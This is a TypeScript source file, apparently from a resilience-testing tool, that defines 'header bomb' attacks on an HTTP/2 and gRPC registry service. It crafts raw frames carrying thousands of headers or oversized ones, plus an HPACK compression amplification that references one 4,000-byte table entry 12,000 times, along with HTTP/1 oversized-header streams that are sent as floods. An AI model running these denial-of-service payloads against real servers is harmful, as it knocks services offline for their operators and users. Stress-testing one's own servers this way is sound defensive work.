import {
  callHeaders,
  END_HEADERS,
  FRAME,
  frame,
  helloFrames,
  text,
} from "../../wire/raw-frames.js";
import { type Attack, flood } from "./attack.js";

const REGISTER = "/pulse.v1.RegistryService/Register";
const MAX_FRAME = 16_384;
/** Adds a header of 4,000 bytes to the table of HPACK, where it is number 62. */
const TABLED = Buffer.concat([Buffer.from([0x40]), text("x"), text("y".repeat(4_000))]);
const NUMBER_62 = 0x80 | 62;

/** New streams with the same block of headers. */
function blocks(block: Buffer): () => () => Buffer {
  return () => {
    let stream = -1;
    return () => {
      stream += 2;
      const frames: Buffer[] = [];
      for (let at = 0; at < block.length; at += MAX_FRAME) {
        const isLast = at + MAX_FRAME >= block.length;
        const type = at === 0 ? FRAME.headers : FRAME.continuation;
        const part = block.subarray(at, at + MAX_FRAME);
        frames.push(frame(type, isLast ? END_HEADERS : 0, stream, part));
      }
      return Buffer.concat(frames);
    };
  };
}

function manyHeaders(count: number, bytes: number): Buffer {
  const value = text("v".repeat(bytes));
  const headers = Array.from({ length: count }, (_, n) => [
    Buffer.from([0]),
    text(`x-${n}`),
    value,
  ]);
  return Buffer.concat([callHeaders(REGISTER), ...headers.flat()]);
}

const HTTP1_HEAD = `POST ${REGISTER} HTTP/1.1\r\nhost: x\r\n`;

const FORMS: Readonly<Record<string, { hello: Buffer; chunks: () => () => Buffer }>> = {
  "HTTP/2, many headers": { hello: helloFrames(), chunks: blocks(manyHeaders(2_000, 10)) },
  "HTTP/2, huge headers": { hello: helloFrames(), chunks: blocks(manyHeaders(20, 4_000)) },
  "HTTP/2, gRPC metadata under the limit": {
    hello: helloFrames(),
    chunks: blocks(manyHeaders(40, 350)),
  },
  "HTTP/2, one header of HPACK's table, 12,000 times": {
    hello: helloFrames(),
    chunks: blocks(Buffer.concat([callHeaders(REGISTER), TABLED, Buffer.alloc(12_000, NUMBER_62)])),
  },
  "HTTP/1, many headers": {
    hello: Buffer.from(HTTP1_HEAD),
    chunks: () => () => Buffer.from("x: y\r\n".repeat(100)),
  },
  "HTTP/1, one huge header": {
    hello: Buffer.from(`${HTTP1_HEAD}x: `),
    chunks: () => () => Buffer.alloc(10_000, "y"),
  },
};
export const HEADER_BOMBS = Object.keys(FORMS);

/** Headers that take more when they are unpacked, or kept, than to send. */
export const headerBombs: Attack = async (config, harvest) => {
  const form = FORMS[config.form ?? ""];
  if (!form) throw new Error(`there is no header bomb ${config.form}`);
  for (let n = 0; n < config.count; n++) flood(config, harvest, form.hello, form.chunks);
};
